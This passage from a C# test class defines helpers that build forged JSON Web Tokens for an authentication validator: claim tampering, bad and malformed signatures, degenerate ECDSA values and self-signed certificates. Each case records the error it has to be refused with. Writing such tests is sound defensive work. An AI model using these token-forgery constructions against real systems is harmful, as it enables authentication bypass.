        Assert.That(Payload, Does.Contain(from));
        return new(name, verdict, Signed(Header("RS256"), Payload.Replace(from, to, StringComparison.Ordinal)));
    }

    private static Attack Exp(string name, M3AuthError verdict, string claim, string number)
    {
        JsonObject payload = new FakeIssuer().Claims(Now);
        payload[claim] = "HERE";
        return new(name, verdict, Signed(Header("RS256"), payload.ToJsonString().Replace("\"HERE\"", number, StringComparison.Ordinal)));
    }

    private static Attack Bad(string name, string token) => new(name, M3AuthError.InvalidTokenSignature, token);

    private static Attack Malformed(string name, string token) => new(name, M3AuthError.InvalidTokenFormat, token);

    private static string Signed(string header, string? payload = null) => FakeIssuer.Sign(header, payload ?? Payload);

    private static string Header(string algorithm, string kid = FakeIssuer.RsaKeyId) => new JsonObject { ["alg"] = algorithm, ["kid"] = kid }.ToJsonString();

    private static string Part(string token, int index) => token.Split('.')[index];

    private static byte[] Input(string token) => Bytes(token[..token.LastIndexOf('.')]);

    private static byte[] Bytes(string text) => Encoding.UTF8.GetBytes(text);

    private static string Encode(string text) => Base64UrlEncoder.Encode(text);

    private static string Encode(byte[] bytes) => Base64UrlEncoder.Encode(bytes);

    private static byte[] One() => [.. new byte[31], 1];

    private static byte[] Order() => Convert.FromHexString("FFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551");

    private static string Certificate()
    {
        var request = new System.Security.Cryptography.X509Certificates.CertificateRequest("CN=issuer.test", FakeIssuer.OtherRsa, HashAlgorithmName.SHA256, RSASignaturePadding.Pkcs1);
        using var certificate = request.CreateSelfSigned(Now.AddDays(-1), Now.AddDays(1));
        return Convert.ToBase64String(certificate.RawData);
    }

    /// <summary>One hostile input and what it has to be refused as.</summary>
    private sealed record Attack(string Name, M3AuthError Verdict, string Token)
    {
        /// <summary>Keys that the issuer publishes beside its good ones.</summary>
        public IReadOnlyList<JsonObject> Keys { get; init; } = [];

        public override string ToString() => Name;
    }

    private sealed class Watch(List<Uri?> asked) : DelegatingHandler
    {
        protected override Task<HttpResponseMessage> SendAsync(HttpRequestMessage request, CancellationToken cancellationToken)
        {
            asked.Add(request.RequestUri);
            return base.SendAsync(request, cancellationToken);
        }
    }
}
